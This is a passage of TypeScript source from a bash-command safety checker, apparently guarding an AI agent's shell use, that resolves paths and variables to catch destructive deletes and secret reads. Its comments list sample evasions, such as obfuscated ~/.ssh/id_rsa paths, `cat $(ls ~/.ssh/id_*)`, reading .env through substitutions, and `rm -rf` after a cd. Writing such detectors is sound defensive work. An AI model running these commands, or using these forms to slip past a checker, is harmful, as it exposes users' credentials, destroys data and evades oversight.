  const other = (n: string) => new RegExp(`\\b(read|mapfile|readarray|printf|eval|source|declare|typeset|local|export|readonly|unset|let)\\b[^;&|\\n]*\\b${n}\\b|\\b${n}\\[[^\\]]*\\]\\+?=|\\$\\{!`).test(line);
  return new Set([...byName].filter(([n, only]) => only && !loops.has(n) && !other(n)).map(([n]) => n));
}

/**
 * What a word names when it is a variable bound to a listing with a literal suffix ("$f", "$f.tmp",
 * "${f%.js}.ts", curl's "@$f"). Only operators that keep a listed path inside count: a suffix without
 * a slash removed, or a prefix that ends in a slash — `${f#./}`, not `${f#.}`, which makes ./x absolute.
 */
function listedWord(st: State, raw: string, cwd: string): { path: string; secret: boolean; at: string } | undefined {
  const m = /^(@?)"?\$(?:([A-Za-z_]\w*)|\{([A-Za-z_]\w*)(?:\[[@*\d]+\])?(%[^}/%]*|#[^}#]*\/)?\})([\w.-]*(?:\/[\w.-]*)*)"?$/.exec(raw);
  const name = m ? (m[2] ?? m[3])! : undefined;
  const over = name !== undefined && !st.listedVars.has(name) ? st.loopOver.get(name) : undefined;
  const v = name !== undefined ? st.listedVars.get(name) ?? (over !== undefined ? st.listedVars.get(over) : undefined) : undefined;
  if (!v || m![5]!.includes('..')) return undefined;
  // (A listing prints names relative to where it ran: used from another directory — FILES=$(ls src); cd ~; rm -rf $FILES —
  // they are that directory's files, not the listed ones.)
  if (!v.secret && v.cwds !== undefined && !v.cwds.includes(cwd)) return undefined;
  return { secret: v.secret, at: m![1]!, path: v.secret ? v.path : `${v.path}${m![5]}` };
}

/** A redirection's target bound to a project listing ("$f.tmp"). */
function redirectListed(st: State, raw: string, cwd: string): string | undefined {
  const w = listedWord(st, raw, cwd);
  return w && !w.secret && !w.at ? w.path : undefined;
}

/** A word that is the arguments of a function or script ("$@", $1) or an argument list a program file computes: judged where they are known. */
const ARGUMENT_WORD = /^"?\$(\{?[@*1-9]\}?|__computed)"?$/;

/** A value computed below a known directory (`/tmp/snap-$(date)`, `logs/bench-$(git rev-parse …).txt`): its text, made absolute. */
function placedText(value: Word, cwd: string, home: string): string | undefined {
  const v = value.value;
  const cut = v.search(/[$`]/);
  if (value.static || cut < 0 || cwd === UNKNOWN_CWD || v.includes('..')) return undefined;
  const head = v.slice(0, cut);
  if (!head.includes('/') || /^[~$]/.test(v) && !v.startsWith('~/')) return undefined;
  return resolvePath(head, { cwd, home }) + (head.endsWith('/') ? '/' : '') + v.slice(cut);
}

/** A quoted file name holding `$(` or a backtick (echo > 'a`git x`b'): no substitution — spelt with look-alikes of those
 *  characters, so the path checks read the one name it is, not a place a program's output picks. */
const literalName = (v: string): string => v.replace(/\$(?=\()/g, '\uFF04').replace(/`/g, '\uFF40');

/** The directory an assignment's value captures: $PWD, $(pwd), `pwd`, $(cd DIR && pwd) with DIR known. */
function capturedDir(st: State, raw: string, cwd: string): string | undefined {
  if (cwd === UNKNOWN_CWD) return undefined;
  const home = st.ctx.home;
  const v = raw.replace(/^"(.*)"$/s, '$1');
  if (/^(\$PWD|\$\{PWD\}|\$\(pwd( -[PL])?\)|`pwd( -[PL])?`)$/.test(v)) return cwd;
  // (${PWD%/} drops a trailing slash: where the working directory is not / it is $PWD as it is — CACHE_ROOT="${PWD%/}/.cache".)
  const trimmed = /^\$\{PWD%%?\/\}(\/.*)?$/s.exec(v);
  if (trimmed) return cwd === '/' ? undefined : capturedDir(st, `$PWD${trimmed[1] ?? ''}`, cwd);
  // ("$PWD/dist", "$(pwd)/build/out": a literal path below it.)
  // ("$PWD/build/$(uname -m)": a name below it that a substitution prints — never `..`, never a slash.)
  const below = /^(?:\$PWD|\$\{PWD\}|\$\(pwd(?: -[PL])?\)|`pwd(?: -[PL])?`)(\/.*)$/s.exec(v);
  const literal = below && substitutionsIn(below[1]!).reduceRight((t, x) => t.slice(0, x.start) + t.slice(x.end), below[1]!);
  if (below && /^[^$`*?[\]{}"'\\]*$/.test(literal!) && (literal === below[1] || namesOnlyComputed(below[1]!.slice(1)))) return resolvePath(`${cwd}${below[1]}`, { cwd, home });
  // ($(dirname "$(realpath package.json)"): the directory holding what the name links to — known only where the disk
  // says, since the name may be a link to anywhere; realpath of a name that is not there is not read.)
  const real = /^\$\(\s*dirname\s+("?)\$\(\s*(?:realpath|readlink\s+-f)\s+("?)([\w.@+-][\w.@+/-]*)\2\s*\)\1\s*\)$/.exec(v);
  if (real) {
    const target = st.ctx.realpath?.(resolvePath(real[3]!, { cwd, home }));
    return target === undefined ? undefined : posix.dirname(target);
  }
  const m = /^\$\(\s*cd\s+(?:-[PL]\s+)?(?:--\s+)?("[^"]*"|'[^']*'|[^\s;&|)]+)\s*(?:&&|;)\s*pwd(?:\s+-[PL])?\s*\)$/.exec(v);
  if (!m) return undefined;
  const dirWord = m[1]!;
  const inner = dirnameOf(dirWord) ?? (/[$`]/.test(dirWord) ? undefined : dirWord.replace(/^["']|["']$/g, ''));
  if (inner === undefined) return undefined;
  // (If the cd fails, `&& pwd` prints nothing and "$ROOT/usr" is /usr: only a directory known to be
  // there counts — the working directory or one above it, one the disk shows, or one holding a file
  // this line wrote, as a script's own directory does.)
  const dir = resolvePath(inner, { cwd, home });
  const there = cwd === dir || cwd.startsWith(`${dir}/`) || st.ctx.realpath?.(dir) !== undefined || [...st.written, ...st.scripts.keys()].some((w) => w.startsWith(`${dir}/`));
  return there ? dir : undefined;
}

/**
 * Where a cd goes when its computed parts each print one name (dist/release/$VERSION, VERSION=$(git describe) set once in the
 * line; out/$(date +%s)) below a known directory of the project or the temp dir: that path, its substitutions kept — the path
 * checks read each as one name there (possibly empty, or `..` where the printer may print that). Else undefined.
 */
function namedCwd(st: State, to: string, env: Record<string, string | undefined>, cwd: string): string | undefined {
  if (cwd === UNKNOWN_CWD) return undefined;
  // (A variable stands for its one value: a single substitution, assigned once — nothing else in the line may give it another.)
  const once = (n: string) => (st.lineText.match(new RegExp(`(^|[^\\w$])${n}\\+?=`, 'g')) ?? []).length === 1
    && !new RegExp(`\\b(read|mapfile|readarray|getopts|printf|declare|typeset|local|export|let|unset|for|select|eval|source)\\b[^;&|\\n]*\\b${n}\\b`).test(st.lineText);
  const text = to.replace(/\$\{([A-Za-z_]\w*)\}|\$([A-Za-z_]\w*)/g, (m, a?: string, b?: string) => {
    const v = env[(a ?? b)!];
    return v !== undefined && /^\$\([^()`$]*\)$/.test(v) && once((a ?? b)!) ? v : m;
  });
  // (Not where a substitution may print `..` — basename of anything — nor in a line that climbs from there: the path judge
  // takes the substitution for one name, and `..` past it for its parent, where it may print nothing, or `..`.)
  // (…unless each prints exactly one name: out-$(date +%s), then cd .. is the directory it was made in.)
  if (!namesOnlyComputed(text, true) || (/(?<![\w.])\.\.(?![\w.])/.test(st.lineText) && !singleNames(text))) return undefined;
  const abs = resolvePath(text, { cwd, home: st.ctx.home });
  const head = abs.slice(0, abs.indexOf('$('));
  return head.startsWith(`${st.ctx.projectRoot}/`) || /^\/(private\/)?tmp\/./.test(head) ? abs : undefined;
}

/** Whether the line itself gives NAME a value (an assignment, read, a loop, a declaration): else it comes from the environment. */
/**
 * The words a command name `$v` / `"${v}"` can be, when the line gives v only plain-word values and
 * uses the name nowhere else (no read, for, export, printf -v, eval of it); undefined otherwise.
 */
function pickedCommands(st: State, raw: string, fc: FlatCommand, flat: readonly FlatCommand[]): string[][] | undefined {
  // (…or an array's elements, "${cmd[@]}", where each of its assignments lists plain words: sed_i=(sed -i '') in one
  // case arm, sed_i=(sed -i) in another.)
  const name = /^"?\$(?:\{([A-Za-z_]\w*)\}|([A-Za-z_]\w*))"?$/.exec(raw);
  const array = /^"\$\{([A-Za-z_]\w*)\[@\]\}"$/.exec(raw);
  const v = name ? (name[1] ?? name[2])! : array ? array[1]! : undefined;
  if (v === undefined || v in st.ctx.env || SHELL_VAR_NAME.test(v)) return undefined;
  // (Text that may set it unseen — eval, source, traps, namerefs, printf -v — or a command whose input or
  // output is redirected, fed, or a descriptor — judged once per pick without those — is not a pick.)
  // (Read with quotes and backslashes taken out, as the shell reads words: a''rr, ar\\r and "ar"r all name arr.)
  const line = st.lineText.replace(/\\(.)/g, '$1').replace(/['"]/g, '');
  if (/(^|[\s;&|(!{])(eval|source|\.|trap|declare\s+-\w*n|typeset\s+-\w*n|local\s+-\w*n|printf\s+-v\w*|let|readonly\s+-\w*n)(\s|$)/.test(line) || /(^|[\s;&|(])(read|mapfile|readarray|getopts)\b[^;&|\n]*\$/.test(line)) return undefined;
  // (An array may be filled by any builtin that takes a name — read -a, mapfile, declare, local, namerefs — or by eval.)
  if (array && /(^|[\s;&|(!{])(eval|read|mapfile|readarray|declare|typeset|local|readonly|export|unset|source|\.)(\s|$)/.test(line)) return undefined;
  if (fc.redirects.length > 0 || fc.stdinFrom.length > 0) return undefined;
  const PLAIN = /^[\w@%+=:,./-]+$/;
  const elements = (text: string): string[] | undefined => {
    const parsed = parseShell(`: ${text}`);
    const words = parsed.ok ? commandsOf(parsed.script)[0]?.argv.slice(1) : undefined;
    return words && words.length > 0 && words.every((w) => w.static && (PLAIN.test(w.value) || w.value === '')) && PLAIN.test(words[0]!.value) ? words.map((w) => w.value) : undefined;
  };
  // (Plain words; an unquoted $v splits a value of several — DC="docker compose"; $DC up.)
  const values = flat.flatMap((c) => c.assignments.filter((a) => a.name === v).map((a) => {
    if (array) return !a.append && /^\([\s\S]*\)$/.test(a.value.raw) ? elements(a.value.raw.slice(1, -1)) : undefined;
    return a.value.static && !a.append && (PLAIN.test(a.value.value) || (!raw.startsWith('"') && /^[\w@%+=:,./-]+( [\w@%+=:,./-]+)*$/.test(a.value.value))) ? a.value.value.split(' ') : undefined;
  }));
  if (values.length === 0 || values.includes(undefined)) return undefined;
  // Every mention of the name is one of those assignments or a plain expansion of it.
  // (A word of a path — node_modules/.bin/x — is not the name.)
  // (Its plain-word assignments are taken out first: open=open names the program it holds.)
  const text = line.replace(new RegExp(`(^|[\\s;&|(])${v}=${array ? '\\([^()]*\\)' : '[\\w@%+=:,./-]*'}`, 'g'), '$1');
  const mentions = [...text.matchAll(new RegExp(`(?<![\\w./-])${v}(?![\\w./-])`, 'g'))];
  const plain = [...text.matchAll(new RegExp(array ? `\\$\\{${v}\\[@\\]\\}` : `\\$${v}\\b|\\$\\{${v}\\}`, 'g'))];
  return mentions.length === plain.length ? [...new Map(values.map((x) => [x!.join('\0'), x!])).values()] : undefined;
}

/** The program of the JSON/YAML filter (jq, yq, gojq) that alone feeds FC, when the filter is given it literally. */
function editedBy(fc: FlatCommand, flat: readonly FlatCommand[], info: readonly (Info | undefined)[]): string | undefined {
  if (fc.stdinFrom.length !== 1) return undefined;
  const up = info[fc.stdinFrom[0]!];
  const f = flat[fc.stdinFrom[0]!];
  if (!up || !f || !/^(jq|yq|gojq)$/.test(up.name) || !f.argv.every((w) => w.static)) return undefined;
  return filterProgram(up.argv.slice(1));
}

function setInLine(st: State, name: string): boolean {
  if (name in st.ctx.env || /^(HOME|PWD|OLDPWD|RAMPART_HOME|CLAUDE_PROJECT_DIR|TMPDIR|USER|SHELL|PATH)$/.test(name)) return true;
  const n = name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
  return new RegExp(`(^|[^\\w$])${n}\\+?=|\\b(read|mapfile|readarray|for|export|declare|local|typeset|getopts)\\b[^;\\n]*\\b${n}\\b|printf\\s+-v\\s*${n}\\b`).test(st.lineText);
}

/** Whether argv runs shell text in this shell (eval, source, ., a function the line defined), through command/builtin. */
function runsShellHere(argv: readonly string[], functions: ReadonlyMap<string, string>): boolean {
  let k = 0;
  while (/^(command|builtin)$/.test(argv[k] ?? '') || (k > 0 && /^-[pvV]+$/.test(argv[k] ?? ''))) k++;
  const name = argv[k] ?? '';
  // (Only an unquoted expansion in that text is split: eval 'echo a,b' and f() { echo "$1"; } split nothing.)
  const splits = (text: string) => /\$[\w{@*#?!-]/.test(text.replace(/'[^']*'|"(?:[^"\\]|\\.)*"/g, ''));
  if (name === 'eval') return splits(argv.slice(k + 1).join(' '));
  if (functions.has(name)) return splits(functions.get(name)!);
  // (A sourced file's text may be anything.)
  return name === 'source' || name === '.';
}

// Programs that decode, decrypt or decompress into a file they name themselves (archive extractors, whose names come from the
// archive, are not among them).
const FILE_DECODERS = /^(gzip|gunzip|pigz|unpigz|bzip2|bunzip2|pbzip2|lbzip2|xz|unxz|lzma|unlzma|lzip|lzop|zstd|unzstd|lz4|unlz4|brotli|uncompress|base64|base32|basenc|xxd|uudecode|openssl|gpg|gpg2|age|rage)$/;
const SHELL_VAR_NAME = /^(PATH|HOME|PWD|OLDPWD|SHELL|BASH\w*|IFS|PS\d|ENV|CDPATH)$/;
const POSIX_MODE = /set\s+-o\s+posix|POSIXLY_CORRECT|--posix|(^|[\s;&|(])(sh|dash|ash|ksh|posh)\s/;
const CHANGES_DIR = /(^|[\s;&|({])(cd|pushd|popd)(\s|$|[;&|)])/;

/**
 * Where a cd leaves the commands after it when it may not take effect for all of them: inside a
 * subshell or a group (the commands after it there are in the new directory, those after it outside
 * are not), in a branch that may not run, or when it may fail and the next command runs anyway
 * (`;`, `||`, no `set -e`). Both places are possible: the new one is followed, and what comes after
 * is judged in the old one as well (st.altCwd), until a cd that surely takes effect.
 */
function settledCwd(st: State, fc: FlatCommand, before: string, after: string): string {
  if (before === after || after === UNKNOWN_CWD) {
    st.altCwds = [];
    return after;
  }
  st.altCwds = cdMayFail(st, fc) ? [...new Set([...st.altCwds, before])].filter((d) => d !== after).slice(-4) : [];
  return after;
}

/** Whether the commands after this cd may run where it failed: it is not chained by && or guarded by `|| exit`, nor under set -e. */
function cdMayFail(st: State, fc: FlatCommand): boolean {
  const rest = st.lineText.slice(fc.command.end).trimStart();
  // (set -e given before the cd, as a command.)
  const errexit = /(^|[\n;&|]\s*)set\s+(-[a-zA-Z]*e|-o\s+errexit)/.test(st.lineText.slice(0, fc.command.start));
  // (Right of `&&` it only runs after what came before succeeded, and so do the commands chained after it.)
  const branch = fc.conditional && !/&&$/.test(st.lineText.slice(0, fc.command.start).trimEnd());
  // (A subshell's end restores the directory: see `entered` in runLine.)
  // (`cd x || exit 1`, `|| { echo …; exit 1; }`: if it fails, nothing after it runs — the exit
  // builtin, last in its group, not piped; `return` only ends a function, and fails outside one.)
  const orExit = !/(^|[\s;&|({])exit\s*\(\s*\)|function\s+exit\b/.test(st.lineText)
    && /^\|\|\s*(?:exit(?:\s+\d+)?|\{(?:[^{}|&;]*;)*\s*exit(?:\s+\d+)?\s*;?\s*\})\s*(?:$|[;\n]|&&)/.test(rest);
  return branch || (!errexit && !orExit && !/^(&&|$)/.test(rest));
}

/** Word k of argv is code the program runs (eval/source, or a shell's or interpreter's -c/-e text), not data. */
function runsAsCode(argv: readonly string[], k: number): boolean {
  const prog = posix.basename(argv[0] ?? '');
  return /^(eval|source|\.)$/.test(prog) || ((isShell(prog) || languageOf(prog) !== undefined) && /^-[a-zA-Z]*[ceEp]$|^--(eval|print|command)$/.test(argv[k - 1] ?? ''));
}

/** The file a `/dev/fd/$v` word names when `exec {v}>file` opened v earlier in the line. */
function fdVarFile(st: State, raw: string): string | undefined {
  const m = /^"?\/dev\/fd\/\$\{?([A-Za-z_]\w*)\}?"?$/.exec(raw);
  return m ? st.fdVars.get(m[1]!) : undefined;
}

/**
 * A word that starts with a directory-stack name — `~-`, `~+`, `"$OLDPWD"` — as the directory it names, or undefined for any
 * other word. `~-` and $OLDPWD are the directory before the line's last cd (its known place), what the line assigned to
 * OLDPWD, or else unknown: `$OLDPWD`, a computed name (a delete below it is outside the project, a secret's name below it
 * may be that secret). `~+` is $PWD, which the line may have assigned (PWD=/etc; rm -rf ~+/ssh).
 */
function dirStackWord(st: State, w: Word, env: Record<string, string | undefined>): string | undefined {
  // (A quoted word starts with an empty literal: "$OLDPWD/dist".)
  const first = w.parts.find((p) => !(p.kind === 'literal' && p.text === ''));
  const tilde = first?.kind === 'tilde' && (first.text === '~-' || first.text === '~+') ? first.text : undefined;
  const param = first?.kind === 'param' && first.name === 'OLDPWD' && first.op === undefined && !first.indirect && !first.length ? first : undefined;
  if (tilde === undefined && param === undefined) return undefined;
  const rest = w.value.slice(tilde !== undefined ? 2 : param!.raw.length);
  if (rest !== '' && !rest.startsWith('/')) return undefined;
  if (tilde === '~+') return typeof env.PWD === 'string' && env.PWD.startsWith('/') ? env.PWD + rest : undefined;
  // (A value the line assigned is already in the word for "$OLDPWD"; one it set at run time — read, printf -v — is unknown.)
  if ('OLDPWD' in env) return tilde === undefined ? undefined : (typeof env.OLDPWD === 'string' && env.OLDPWD.startsWith('/') ? env.OLDPWD : '$OLDPWD') + rest;
  const known = st.oldpwd !== undefined && st.oldpwd !== UNKNOWN_CWD && !st.oldpwdUnsure ? st.oldpwd : undefined;
  return (known ?? '$OLDPWD') + rest;
}

/** `"$(dirname LITERAL)REST"` → dirname(LITERAL) + REST; undefined for any other word. */
function dirnameOf(raw: string): string | undefined {
  const m = /^"?\$\(\s*dirname\s+(?:--\s+)?(?:'([^'$`]*)'|"([^"$`]*)"|([^\s'"$`()]+))\s*\)([^$`"]*)"?$/.exec(raw);
  return m ? posix.dirname((m[1] ?? m[2] ?? m[3])!) + m[4]! : undefined;
}

/** Task, package and test runners: what they run — scripts, recipes, tests, a package's bin — is code the line does not show. */
const CODE_RUNNERS = /^(npm|npx|pnpm|pnpx|yarn|yarnpkg|bun|bunx|deno|corepack|make|gmake|just|task|cargo|go|uv|uvx|poetry|pipx|pdm|hatch|tox|nox|rake|bundle|gradle|gradlew|mvn|mvnw|ant|sbt|mix|dotnet|cmake|ctest|ninja|meson|bazel|bazelisk|pytest|jest|vitest|mocha|tsx|ts-node|turbo|nx|lerna)$/;

/** Package managers whose install subcommand fetches and may run what it is given. */
const INSTALLERS = /^(npm|pnpm|yarn|bun|pip3?|uv|pipx|gem|cargo|go|composer)$/;

/** Tools whose first operand is a subcommand that decides what they do. */
const SUBCOMMAND_TOOLS = /^(git|npm|pnpm|yarn|bun|npx|docker|podman|kubectl|oc|helm|gh|cargo|pip3?|uv|poetry|go|terraform|skaffold|minikube|kind|aws|gcloud|az|rampart|systemctl|crontab)$/;

/** Binds (or, for anything else, unbinds) a variable to the paths a listing prints: a secret it names, or the project directory it lists. */
function listed(st: State, name: string, lister: Info, cwd: string): void {
  if (lister.namesOut) st.listedVars.set(name, { path: lister.namesOut, secret: true });
  // (…from where it ran, or where the line may still be when a cd before it may have failed.)
  else if (lister.listsUnder) st.listedVars.set(name, { path: lister.listsUnder, secret: false, cwds: [cwd, ...st.altCwds] });
  else st.listedVars.delete(name);
}

/** `npm prefix` run at the project root prints it when its package.json is there (the disk says so). */
/** What `git rev-parse --show-toplevel` prints from CWD, when known: the work tree's top the repository reader learned from
 *  disk (CWD below it), else the project root when CWD is inside it and its .git is there; undefined when the line or the
 *  environment moves the repository (GIT_DIR, GIT_WORK_TREE) or nothing tells. */
function gitTop(st: State, cwd: string): string | undefined {
  const root = st.ctx.projectRoot;
  const inside = (dir: string, p: string): boolean => p === dir || p.startsWith(`${dir}/`);
  if (/\bGIT_(DIR|WORK_TREE)\b/.test(st.lineText) || st.ctx.env.GIT_DIR !== undefined || st.ctx.env.GIT_WORK_TREE !== undefined) return undefined;
  const top = st.ctx.git?.toplevel?.();
  if (top !== undefined && inside(top, cwd)) return top;
  return inside(root, cwd) && st.ctx.realpath?.(`${root}/.git`) !== undefined ? root : undefined;
}

/** TEXT with each $(git rev-parse --show-toplevel) in it spelled as the directory it prints from CWD, where that is known;
 *  likewise --show-cdup and --show-prefix, the ways up to that top and down from it (`../../` and `pkg/app/`, empty at
 *  the top itself: "$(git rev-parse --show-cdup)build" is build there, and "$(git rev-parse --show-cdup)/build" is /build). */
function withGitTop(st: State, cwd: string, text: string): string {
  if (!/rev-parse --show-(toplevel|cdup|prefix)\b/.test(text)) return text;
  const top = gitTop(st, cwd);
  if (top === undefined) return text;
  const up = posix.relative(cwd, top);
  const down = posix.relative(top, cwd);
  return text.replace(/\$\(git rev-parse --show-toplevel\)|`git rev-parse --show-toplevel`/g, top)
    .replace(/\$\(git rev-parse --show-cdup\)|`git rev-parse --show-cdup`/g, up === '' ? '' : `${up}/`)
    .replace(/\$\(git rev-parse --show-prefix\)|`git rev-parse --show-prefix`/g, down === '' ? '' : `${down}/`);
}

function npmPrefixIsRoot(st: State, cwd: string): boolean {
  return cwd === st.ctx.projectRoot && st.ctx.realpath?.(`${st.ctx.projectRoot}/package.json`) !== undefined;
}

/** Judges one simple command; returns its record and the cwd/env for the commands after it. */
function judgeSimple(st: State, fc: FlatCommand, flat: FlatCommand[], info: Info[], cwd: string, env: Record<string, string | undefined>) {
  const argvWords = fc.argv;
  let argv = argvWords.map(wordText);
  exportScope(st, fc, argv);
  // /dev/fd/$v of a descriptor `exec {v}>file` opened: that file.
  if (st.fdVars.size) argv = argv.map((a, k) => fdVarFile(st, argvWords[k]!.raw) ?? a);
  // ~- and "$OLDPWD" (and ~+) name bash's directory stack: the directory before the last cd, and the current one.
  // (cd's own operand is followed by cd itself.)
  const stacked = new Set<number>();
  if (!/^(cd|pushd)$/.test(argv[0] ?? '')) {
    argv = argv.map((a, k) => {
      const d = k > 0 ? dirStackWord(st, argvWords[k]!, env) : undefined;
      if (d === undefined) return a;
      stacked.add(k);
      return d;
    });
  }
  // $(git rev-parse --show-toplevel) where the work tree's top is known: that directory (judged like any path there).
  argv = argv.map((a, k) => (k > 0 ? withGitTop(st, cwd, a) : a));
  // $(npm prefix) at the project root whose package.json is there: the project root.
  if (argv.some((a) => a.includes('npm prefix')) && npmPrefixIsRoot(st, cwd)) argv = argv.map((a, k) => (k > 0 ? a.replace(/\$\(npm prefix\)|`npm prefix`/g, st.ctx.projectRoot) : a));
  // A variable that captured a directory (ROOT=$PWD, ROOT="$(cd "$(dirname x.sh)/.." && pwd)") is that
  // directory where it is used ("$ROOT/dist"), whatever cd came after; one whose value starts with a
  // known directory (out=/tmp/snap-$(date +%s)) is a name below it.
  if (st.dirVars.size) argv = argv.map((a, k) => (k > 0 && !argvWords[k]!.static ? dirVarPath(st, argvWords[k]!.raw) ?? a : a));
  // A variable that captured the current branch (b=$(git branch --show-current)) is that substitution where used.
  if (st.branchVars.size) {
    argv = argv.map((a, k) => {
      const raw = argvWords[k]!.raw;
      if (k === 0 || argvWords[k]!.static || !/^[\w./:+@-]*("?\$\{?[A-Za-z_]\w*\}?"?[\w./:+@-]*)+$/.test(raw)) return a;
      const names = [...raw.matchAll(/\$\{?([A-Za-z_]\w*)/g)].map((m) => m[1]!);
      return names.every((n) => st.branchVars.has(n)) ? raw.replace(/"/g, '').replace(/\$\{?[A-Za-z_]\w*\}?/g, '$(git branch --show-current)') : a;
    });
  }
  // An operand that is a substitution printing a secret's path (cat $(ls ~/.ssh/id_* | head -1)) is that path;
  // one printing paths below a directory of the project (sed -i … $(grep -rl X src)) is a file there.
  argv = argv.map((a, k) => {
    const w = argvWords[k]!;
    if (k === 0 || w.substitutions.length !== 1 || !/^"?(\$\(|`)[\s\S]*(\)|`)"?$/.test(w.raw)) return a;
    // (Not for a program that runs the word as code — sh -c "$(echo cat .env)" runs `cat .env`.)
    if (runsAsCode(argv, k)) return a;
    const subs = flat.filter((c) => c.origin?.parent === fc.index && c.origin.location === 'argv' && c.origin.word?.raw === w.raw);
    const named = subs.find((c) => info[c.index]?.namesOut);
    if (named) return info[named.index]!.namesOut!;
    // (The substitution's output is its last command's: every command of it must be a lister or a filter of one.
    // Only programs that change files locally take it so; ones that send, stage, pack or show what they
    // are given keep it computed: a listing may hold the project's secrets.)
    const last = subs.at(-1);
    const local = !NETWORK_TOOLS.has(posix.basename(argv[0] ?? '')) && !/^(gh|git|tar|bsdtar|zip|7z|jar|cpio|cat|head|tail|less|more|bat|xxd|od|hexdump|base64|strings|nl)$/.test(posix.basename(argv[0] ?? ''));
    // (Every command whose output reaches the word must list: `$(echo ~; git ls-files)` prints ~ too.)
    const outputs = subs.filter((c) => c.stdoutTo.length === 0);
    if (st.spacedNames && !w.raw.startsWith('"')) return a;
    const under = local && last && subs.every((c) => info[c.index] !== undefined) && outputs.every((c) => info[c.index]?.listsUnder !== undefined) ? info[last.index]?.listsUnder : undefined;
    return under ?? a;
  });
  // An operand that is one substitution whose output the line knows (`-o "$(printf 'Proxy%s=%s' Command …)"`,
  // "$(echo …)", decoded base64): that text, as bash passes it (one word when quoted; trailing newlines dropped).
  argv = argv.map((a, k) => {
    const w = argvWords[k]!;
    if (k === 0 || a !== w.value || w.substitutions.length !== 1 || !/^"?(\$\(|`)[\s\S]*(\)|`)"?$/.test(w.raw)) return a;
    if (runsAsCode(argv, k)) return a;
    const outs = flat.filter((c) => c.origin?.parent === fc.index && c.origin.location === 'argv' && c.origin.word?.raw === w.raw && c.stdoutTo.length === 0);
    const text = outs.length === 1 ? info[outs[0]!.index]?.textOut?.replace(/\n+$/, '') : undefined;
    if (text === undefined || (!w.raw.startsWith('"') && /\s/.test(text)) || text.includes('\n')) return a;
    return text;
  });
  // A variable bound to a listed path ("$f", "${f%.js}.ts", "${f#src/}") is such a path: a secret the
  // listing names for every program, a path in the project for the same local programs (git mv/rm
  // too: they move and delete inside the work tree).
  if (st.listedVars.size) {
    const prog = posix.basename(argv[0] ?? '');
    const local = (prog === 'git' && /^(mv|rm)$/.test(argv[1] ?? '')) || (!NETWORK_TOOLS.has(prog) && !/^(gh|git|tar|bsdtar|zip|7z|jar|cpio|cat|head|tail|less|more|bat|xxd|od|hexdump|base64|strings|nl)$/.test(prog));
    argv = argv.map((a, k) => {
      const w = k > 0 && !argvWords[k]!.static ? listedWord(st, argvWords[k]!.raw, cwd) : undefined;
      if (!w) return a;
      if (w.secret) return `${w.at}${w.path}`;
      return local && !w.at ? w.path : a;
    });
  }
  // A path pieced together around a variable the line never set (~/.ss${U}h/id_rsa): read unset, it
  // may name a secret, and then it is that secret.
  // (An expansion with an operator — ${PATH:0:1}, ${X:-…} — may as well be a slash: both readings are tried.)
  // (A variable that names where a tool keeps its credentials — AWS_SHARED_CREDENTIALS_FILE, KUBECONFIG …
  // — is read as that place when it is not set in the line.)
  argv = argv.map((a, k) => {
    // (A word with no expansion — single-quoted code like perl's "$ENV{HOME}" — has no variable to read.)
    if (k === 0 || (argvWords[k]?.static && !stacked.has(k)) || !/\$\{?[A-Za-z_]\w*/.test(a)) return a;
    for (const fill of ['', '/']) {
      const alt = a.replace(/\$\{([A-Za-z_]\w*)([^}]*)\}|\$([A-Za-z_]\w*)/g, (m, x?: string, op?: string, y?: string) => env[(x ?? y)!] ?? CREDENTIAL_VARS[(x ?? y)!] ?? (op ? fill : ''));
      if (alt !== a && isSecretPath(st, posix.resolve(cwd, alt.replace(/^~(?=\/|$)/, st.ctx.home).replace(/\/{2,}/g, '/')), { ...st.ctx, cwd })) return alt;
    }
    return a;
  });
  const rec: Info = { name: '', cwd, argv, interpreterReadsStdin: false, isInterpreter: false, writesFiles: [] };
  const cmdEnv: Record<string, string | undefined> = { ...env };
  let nextEnv = env;
  // An assignment from a substitution that prints a secret (K=$(<.env)) holds the secret.
  const assignedSecret = flat.find((c) => c.origin?.parent === fc.index && c.origin.location === 'assignment' && info[c.index]?.secretOut);
  // (Regular builtins only: a prefix on a special builtin such as `:` persists in posix mode; `enable -n` makes the name a program.)
  const inert = argvWords[0]?.static === true && /^(echo|printf|true|false|test|\[|pwd)$/.test(argv[0] ?? '') && !/(^|[^\w-])enable\b/.test(st.lineText);
  for (const a of fc.assignments) {
    const v = a.value.value;
    // ($(git rev-parse --show-toplevel) where the work tree's top is known: that directory.)
    const toplevel = (/^"?\$\(git rev-parse --show-toplevel\)"?$/.test(a.value.raw) ? gitTop(st, cwd) : undefined) ?? (/^"?\$\(npm prefix\)"?$/.test(a.value.raw) && npmPrefixIsRoot(st, cwd) ? st.ctx.projectRoot : undefined);
    const captured = a.scope !== 'prefix' ? toplevel ?? capturedDir(st, a.value.raw, cwd) ?? dirVarPath(st, a.value.raw) ?? placedText(a.value, cwd, st.ctx.home) : undefined;
    // (Judged again where a cd may not have happened: a directory captured differently there is not one place.)
    if (st.inAltCwd) {
      if (captured !== st.dirVars.get(a.name)) st.dirVars.delete(a.name);
    } else if (captured !== undefined) st.dirVars.set(a.name, captured);
    else if (a.scope !== 'prefix') st.dirVars.delete(a.name);
    // (A copy of a glob loop's variable, or an array of a glob's matches — x=$b, files=(*) — holds file names as it does.)
    if (a.scope !== 'prefix' && (/^"?\$\{?([A-Za-z_]\w*)\}?"?$/.test(a.value.raw) && st.globLoopVars.has(/\$\{?([A-Za-z_]\w*)/.exec(a.value.raw)![1]!)
      || a.value.parts.some((p) => p.kind === 'array' && p.elements.some((e) => e.glob && DASH_GLOB.test(e.raw.replace(/'[^']*'|"[^"]*"/g, '')))))) st.globLoopVars.add(a.name);
    if (a.scope !== 'prefix' && BRANCH_SUB.test(a.value.raw)) st.branchVars.add(a.name);
    else if (a.scope !== 'prefix') st.branchVars.delete(a.name);
    if (assignedSecret) st.secretVars.set(a.name, info[assignedSecret.index]!.secretOut!);
    // A copy of a credential (t=$GITHUB_TOKEN, h="Bearer $API_KEY") holds it under another name.
    {
      // (A prefix copy — t=$GITHUB_TOKEN node -e … — holds it for that command: kept for the rest of the line, the safe side.)
      // (An array of options that authenticate with it — auth=(-H "Authorization: token $T"); curl "${auth[@]}" — uses it as a header.)
      const words = a.value.raw.startsWith('(') ? a.value.raw.slice(1, -1).match(/(?:"(?:[^"\\]|\\.)*"|'[^']*'|[^\s"']+)+/g) ?? [] : [a.value.raw];
      // (Only what expands: x='see $TOKEN' and msg=$(cat <<'EOF' … EOF) copy nothing; a substitution's own output is assignedSecret's.)
      const expanding = (w: string) => (w === a.value.raw ? expansionsOf(a.value) : expandingText(w));
